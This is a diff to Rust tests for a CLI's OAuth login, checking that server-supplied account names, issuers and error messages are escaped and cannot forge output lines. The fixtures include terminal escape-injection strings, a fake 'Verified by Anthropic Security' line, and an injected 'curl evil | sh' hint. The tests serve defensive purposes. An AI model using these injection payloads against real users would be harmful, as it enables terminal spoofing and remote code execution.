@@ -1,10 +1,12 @@
 //! Strings from outside (the environment, servers) reach the terminal with their control
-//! characters escaped, and `--json` carries them escaped but intact.
+//! characters escaped, and single values from servers (account names, issuers, error codes)
+//! can never print a line of their own.
 
 mod common;
 
 use common::oauth_env::{browser_login, oauth_env};
-use common::oauth_server::{OAuthOptions, OAuthServer};
+use common::oauth_server::{OAuthOptions, OAuthServer, TokenMode};
+use common::servers::{Reply, Server};
 use common::*;
 
 /// A malformed key whose first and last characters are escape sequences: an OSC 52
@@ -15,6 +17,11 @@ const ESCAPING_KEY: &str = "sk-ant-api03-\u{1b}]52;c;SGVsbG8=\u{7}AAAAAAAA\u{1b}
 /// right-to-left override.
 const ESCAPING_EMAIL: &str =
     "dev\u{1b}]8;;https://evil.example\u{7}@example.com\u{1b}]8;;\u{7}\u{9b}2J\u{7f}\u{202e}moc.";
+
+/// A line a hostile server would like read as the product's own, and an account name that
+/// carries it after a newline.
+const FORGED: &str = "✓ Verified by Anthropic Security";
+const FORGING_EMAIL: &str = "dev@example.com\n✓ Verified by Anthropic Security";
 
 /// A port nothing listens on: a request there fails without leaving the machine.
 const NOWHERE: &str = "http://127.0.0.1:9";
@@ -80,7 +87,7 @@ fn json_carries_a_malformed_keys_fingerprint_escaped() {
 }
 
 #[test]
-fn a_servers_account_name_is_shown_escaped_and_kept_intact_in_json() {
+fn a_servers_account_name_is_kept_and_shown_escaped_in_text_and_json() {
     let server = OAuthServer::start(OAuthOptions {
         account_email: ESCAPING_EMAIL.into(),
         ..OAuthOptions::default()
@@ -108,9 +115,129 @@ fn a_servers_account_name_is_shown_escaped_and_kept_intact_in_json() {
     let out = env.run(&["--list-sessions", "--json"]);
     assert!(out.status.success(), "{}", text(&out));
     assert_terminal_safe(&out);
+    // The name is made inert when it arrives, so the session holds (and JSON shows) the
+    // escaped form rather than the raw escapes.
     assert_eq!(
         json_stdout(&out)["sessions"][0]["account"],
-        ESCAPING_EMAIL,
-        "JSON keeps the value exactly, escaped"
+        "dev\\u{1b}]8;;https://evil.example\\u{7}@example.com\\u{1b}]8;;\\u{7}\\u{9b}2J\\u{7f}\\u{202e}moc."
     );
+}
+
+/// Fails when a line of stdout or stderr starts (after its indentation) with `forged`: a
+/// value from outside printed a line of its own.
+fn assert_no_line_starting_with(output: &std::process::Output, forged: &str) {
+    let all = text(output);
+    assert!(
+        !all.lines()
+            .any(|line| line.trim_start().starts_with(forged)),
+        "a forged line `{forged}…` was printed:\n{all}"
+    );
+}
+
+#[test]
+fn a_token_endpoint_error_cannot_forge_a_hint_line_at_login() {
+    let server = OAuthServer::start(OAuthOptions::default());
+    server.set_token_mode(TokenMode::Error("x)\nhint: run `curl evil | sh`".into()));
+    let env = oauth_env(&server, "", "");
+    let out = browser_login(&env, &[]);
+    assert_eq!(out.status.code(), Some(15), "{}", text(&out));
+    assert_no_line_starting_with(&out, "hint: run `curl");
+    assert!(
+        text(&out).contains("(xhintruncurlevilsh)"),
+        "{}",
+        text(&out)
+    );
+}
+
+#[test]
+fn a_token_endpoint_error_cannot_forge_a_hint_line_at_refresh() {
+    let server = OAuthServer::start(OAuthOptions::default());
+    let env = oauth_env(&server, "", "").with("CLAUDE_TEST_NOW", "1800000000");
+    assert!(browser_login(&env, &[]).status.success());
+    server.set_token_mode(TokenMode::Error("x)\nhint: run `curl evil | sh`".into()));
+    let env = env.with("CLAUDE_TEST_NOW", "1800007200");
+    let out = env.run(&["--print-token"]);
+    assert_eq!(out.status.code(), Some(15), "{}", text(&out));
+    assert_no_line_starting_with(&out, "hint: run `curl");
+}
+
+#[test]
+fn an_account_name_from_the_token_endpoint_cannot_forge_a_line() {
+    let server = OAuthServer::start(OAuthOptions {
+        account_email: FORGING_EMAIL.into(),
+        ..OAuthOptions::default()
+    });
+    let env = oauth_env(&server, "", "");
+    let out = browser_login(&env, &[]);
+    assert!(out.status.success(), "{}", text(&out));
+    assert_no_line_starting_with(&out, FORGED);
+    for args in [&["--auth-status"][..], &["--list-sessions"]] {
+        let out = env.run(args);
+        assert_no_line_starting_with(&out, FORGED);
+        assert!(
+            String::from_utf8_lossy(&out.stdout).contains("dev@example.com\\u{a}✓ Verified"),
+            "{args:?}: {}",
+            text(&out)
+        );
+    }
+}
+
+#[test]
+fn an_account_name_from_an_id_token_cannot_forge_a_line() {
+    let server = OAuthServer::start(OAuthOptions {
+        account_email: FORGING_EMAIL.into(),
+        ..OAuthOptions::default()
+    });
+    let env = TestEnv::encrypted();
+    env.write_config(&format!(
+        r#"{{"authentication": {{"storage": {{"type": "encrypted-file", "encryptionKey": "user-derived-key"}}}},
+            "oauth": {{"clientId": "claude-test-client", "issuer": "{}", "redirectUri": "http://localhost:0/callback", "loginTimeout": 20}}}}"#,
+        server.url()
+    ));
+    let out = browser_login(&env, &[]);
+    assert!(out.status.success(), "{}", text(&out));
+    assert_no_line_starting_with(&out, FORGED);
+    for args in [&["--auth-status"][..], &["--list-sessions"]] {
+        assert_no_line_starting_with(&env.run(args), FORGED);
+    }
+}
+
+#[test]
+fn an_issuer_named_by_discovery_cannot_forge_a_line() {
+    let discovery = Server::start(|_, _| {
+        Reply::json(
+            200,
+            r#"{"issuer": "https://evil.example\n✓ Verified by Anthropic Security",
+                "authorization_endpoint": "https://evil.example/authorize",
+                "token_endpoint": "https://evil.example/token",
+                "jwks_uri": "https://evil.example/jwks"}"#,
+        )
+    });
+    let env = TestEnv::encrypted();
+    env.write_config(&format!(
+        r#"{{"oauth": {{"clientId": "claude-test-client", "issuer": "{}"}}}}"#,
+        discovery.url()
+    ));
+    let out = env.run_with_stdin(&["--login", "--no-browser"], "");
+    assert_eq!(out.status.code(), Some(15), "{}", text(&out));
+    assert!(text(&out).contains("not the configured"), "{}", text(&out));
+    assert_no_line_starting_with(&out, FORGED);
+}
+
+#[test]
+fn an_account_stored_by_an_older_version_cannot_forge_a_line() {
+    let server = OAuthServer::start(OAuthOptions::default());
+    let env = oauth_env(&server, "", "");
+    assert!(browser_login(&env, &[]).status.success());
+    // Older versions stored the server's value as it came.
+    let path = env.state_dir().join("sessions.json");
+    let mut sessions: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
+    sessions["sessions"]["anthropic"]["account"] = FORGING_EMAIL.into();
+    std::fs::write(&path, serde_json::to_vec_pretty(&sessions).unwrap()).unwrap();
+    for args in [&["--auth-status"][..], &["--list-sessions"]] {
+        let out = env.run(args);
+        assert!(out.status.success(), "{args:?}: {}", text(&out));
+        assert_no_line_starting_with(&out, FORGED);
+    }
 }
